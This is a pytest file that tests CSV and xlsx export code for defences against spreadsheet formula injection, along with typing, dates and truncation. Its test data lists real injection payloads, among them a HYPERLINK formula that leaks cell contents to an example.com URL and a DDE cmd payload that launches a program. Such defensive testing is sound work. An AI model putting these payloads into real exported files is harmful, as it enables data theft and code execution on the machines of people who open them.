"""No cell of a CSV or a workbook is a formula, whatever a feature is called; numbers and days are numbers and days."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ai_finops import sheets
from ai_finops.sheets import NUMBER_FORMATS, Cell, Sheet, SheetColumn, safe_text, write_csv, write_xlsx

DANGEROUS = [
    '=HYPERLINK("http://example.com/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttab",
    "\rreturn",
    "\nline",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    " =1+1",
    "\x00=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
]


def csv_of(*rows: tuple, columns: tuple[str, ...] = ("name",)) -> str:
    file = io.StringIO(newline="")
    write_csv(file, Sheet("s", tuple(SheetColumn(name) for name in columns), rows))
    return file.getvalue()


def csv_cells(*rows: tuple, columns: tuple[str, ...] = ("name",)) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_of(*rows, columns=columns), newline="")))[1:]


def workbook_of(*sheets: Sheet, is_large: bool = False):
    file = io.BytesIO()
    write_xlsx(file, sheets, is_large=is_large)
    file.seek(0)
    return openpyxl.load_workbook(file)


def cells_of(kind: str, *values: object, is_large: bool = False) -> list:
    book = workbook_of(Sheet("s", (SheetColumn("x", kind),), [(value,) for value in values]), is_large=is_large)
    return [row[0] for row in book["s"].iter_rows(min_row=2)]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_dangerous_name_in_csv_begins_with_an_apostrophe_and_is_otherwise_as_it_was(text):
    ((cell,),) = csv_cells((text,))
    assert cell[0] == "'"
    assert cell.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", DANGEROUS)
@pytest.mark.parametrize("is_large", [False, True])
def test_a_dangerous_name_in_a_workbook_is_a_string(text, is_large):
    (cell,) = cells_of("text", text, is_large=is_large)
    assert cell.data_type in ("s", "inlineStr")
    assert cell.value.replace("_x000D_", "\r") == text.replace("\x00", "\ufffd")  # openpyxl leaves the escape


@pytest.mark.parametrize("text", ["a=b", "1+1", "user@example.com", "support-chat", "'quoted", "x; y", "", "{}"])
def test_harmless_text_stays_as_it_is(text):
    assert safe_text(text) == text


def test_a_cell_that_another_locale_cuts_in_two_holds_no_formula_either():
    assert safe_text("x;=1+1") == "x;'=1+1"
    assert safe_text("x\t@SUM(A1)") == "x\t'@SUM(A1)"
    assert safe_text("first\n- second") == "first\n'- second"


def test_a_negative_number_is_a_number_and_the_same_as_text_is_not():
    assert csv_cells((-1, Decimal("-0.5"), "-1"), columns=("a", "b", "c")) == [["-1", "-0.5", "'-1"]]
    number, amount, text = cells_of("usd", -1, Decimal("-0.5"), "-1")
    assert [(cell.data_type, cell.value) for cell in (number, amount, text)] == [("n", -1), ("n", -0.5), ("s", "-1")]


def test_headers_are_safe_too():
    assert csv_of(columns=("=1+1",)) == "'=1+1\r\n"
    book = workbook_of(Sheet("s", (SheetColumn("=1+1"),), []))
    assert (book["s"]["A1"].data_type, book["s"]["A1"].value) == ("s", "=1+1")


def test_cells_of_a_workbook_are_typed():
    (amount,) = cells_of("usd", Decimal("1234.567891"))
    assert (amount.data_type, amount.value, amount.number_format) == ("n", 1234.567891, "#,##0.00####")
    (count,) = cells_of("count", 7)
    assert (count.data_type, count.value, count.number_format) == ("n", 7, "#,##0")
    (day,) = cells_of("date", date(2025, 6, 1))
    assert (day.is_date, day.value, day.number_format) == (True, datetime(2025, 6, 1), "yyyy-mm-dd")
    (moment,) = cells_of("datetime", datetime(2025, 6, 1, 2, tzinfo=timezone(timedelta(hours=2))))
    assert (moment.is_date, moment.value) == (True, datetime(2025, 6, 1))
    (flag,) = cells_of("text", True)
    assert (flag.data_type, flag.value) == ("b", True)
    (unknown,) = cells_of("usd", None) or [None]
    assert unknown is None or unknown.value is None
    (counted,) = cells_of("text", Cell(3, "count"))
    assert (counted.data_type, counted.value, counted.number_format) == ("n", 3, "#,##0")


def test_csv_says_amounts_in_full_and_times_in_utc():
    row = (
        Decimal("3.528225000000"),
        Decimal("0E-12"),
        datetime(2025, 6, 1),
        date(2025, 6, 2),
        None,
        False,
        Cell(1, "usd"),
    )
    names = tuple("abcdefg")
    assert csv_cells(row, columns=names) == [
        ["3.528225000000", "0.000000000000", "2025-06-01T00:00:00Z", "2025-06-02", "", "false", "1"]
    ]
    assert csv_cells((datetime(2025, 6, 1, 2, tzinfo=timezone(timedelta(hours=2))),)) == [["2025-06-01T00:00:00Z"]]


@pytest.mark.parametrize(
    ("value", "said"), [(float("nan"), "NaN"), (float("inf"), "Infinity"), (Decimal("NaN"), "NaN")]
)
def test_what_is_no_number_is_text_and_no_formula(value, said):
    (cell,) = cells_of("usd", value)
    assert (cell.data_type, cell.value) == ("s", said)
    assert csv_cells((value,)) == [[said]]


def test_minus_infinity_is_text_that_is_safe():
    assert csv_cells((float("-inf"),)) == [["'-Infinity"]]
    assert cells_of("usd", float("-inf"))[0].data_type == "s"


def test_a_day_before_spreadsheets_have_days_is_text():
    first, before = cells_of("date", date(1900, 1, 1), date(1899, 12, 31))
    assert (first.is_date, before.data_type, before.value) == (True, "s", "1899-12-31")


def test_control_characters_and_lone_surrogates_break_neither_format():
    text = "a\x01b\ud800c\ufffed"
    (cell,) = cells_of("text", text)
    assert cell.value == "a\ufffdb\ufffdc\ufffdd"
    assert csv_of((text,)).encode("utf-8").decode("utf-8").splitlines()[1] == "a\x01b\ufffdc\ufffed"


def test_what_looks_like_an_escape_of_a_workbook_is_not_one():
    file = io.BytesIO()
    write_xlsx(file, [Sheet("s", (SheetColumn("x"),), [("_x003D_1+1",)])])
    with zipfile.ZipFile(file) as parts:
        assert b"<t>_x005F_x003D_1+1</t>" in parts.read("xl/sharedStrings.xml")


@pytest.mark.parametrize(("length", "is_cut"), [(32_767, False), (32_768, True)])
def test_text_beyond_what_a_cell_holds_is_cut_and_says_so(length, is_cut):
    (cell,) = cells_of("text", "x" * length)
    assert len(cell.value) == 32_767
    assert cell.value.endswith("the CSV has all of it]") == is_cut
    assert len(csv_cells(("x" * length,))[0][0]) == length


def test_text_is_cut_between_characters_and_not_within_one():
    (cell,) = cells_of("text", "\N{COIN}" * 20_000)
    assert cell.value.endswith("the CSV has all of it]")
    assert len(cell.value.encode("utf-16-le")) // 2 <= 32_767


@pytest.mark.parametrize("is_large", [False, True])
def test_more_rows_than_a_sheet_holds_go_on_in_a_second_one(monkeypatch, is_large):
    monkeypatch.setattr(sheets, "MOST_ROWS", 4)
    columns = (SheetColumn("n", "count"),)
    book = workbook_of(Sheet("FOCUS", columns, ((n,) for n in range(7)), has_filter=True), is_large=is_large)
    assert book.sheetnames == ["FOCUS", "FOCUS (2)", "FOCUS (3)"]
    assert [[row[0].value for row in page] for page in book] == [["n", 0, 1, 2], ["n", 3, 4, 5], ["n", 6]]
    assert workbook_of(Sheet("FOCUS", columns, [(n,) for n in range(3)]), is_large=is_large).sheetnames == ["FOCUS"]


def test_a_sheet_has_a_name_that_a_workbook_takes():
    assert workbook_of(Sheet("a/b:[c]*?" + "x" * 40, (), [])).sheetnames == ["a_b__c___" + "x" * 22]


def test_the_header_stays_in_view_and_on_every_printed_page():
    columns = (SheetColumn("feature_id"), SheetColumn("allocated_cost_usd", "usd", 20))
    page = workbook_of(Sheet("s", columns, [("chat", Decimal(1))], frozen_columns=1, has_filter=True))["s"]
    assert (page.freeze_panes, page.print_title_rows, page.print_title_cols) == ("B2", "$1:$1", "$A:$A")
    assert page.auto_filter.ref == "A1:B2"
    assert (page.page_setup.orientation, page.page_setup.fitToHeight) == ("landscape", 0)
    assert round(page.column_dimensions["B"].width) in (20, 21)


def test_the_same_sheets_make_the_same_bytes():
    def made(is_large: bool) -> bytes:
        file = io.BytesIO()
        write_xlsx(file, [Sheet("s", (SheetColumn("d", "date"),), [(date(2025, 6, 1),)])], is_large=is_large)
        return file.getvalue()

    assert made(is_large=False) == made(is_large=False)
    assert made(is_large=True) == made(is_large=True)


def test_every_kind_has_a_format_and_rows_must_fit_their_columns():
    for kind in NUMBER_FORMATS:
        cells_of(kind, "x")
    with pytest.raises(ValueError, match="zip"):
        workbook_of(Sheet("s", (SheetColumn("a"),), [(1, 2)]))


@settings(deadline=None, max_examples=60)
@given(st.lists(st.text(st.characters(), max_size=12), min_size=1, max_size=8))
def test_no_text_at_all_becomes_a_formula(texts):
    for text, (cell,) in zip(texts, csv_cells(*((text,) for text in texts)), strict=True):
        assert cell.lstrip()[:1] not in tuple("=+-@\uff1d\uff0b\uff0d\uff20") or not cell
        assert text == "" or cell != ""
    file = io.BytesIO()
    write_xlsx(file, [Sheet("s", (SheetColumn("x"),), [(text,) for text in texts])])
    with zipfile.ZipFile(file) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")


def test_now_is_in_no_file():
    file = io.BytesIO()
    write_xlsx(file, [Sheet("s", (), [])])
    with zipfile.ZipFile(file) as parts:
        assert str(datetime.now(UTC).year).encode() not in parts.read("docProps/core.xml")
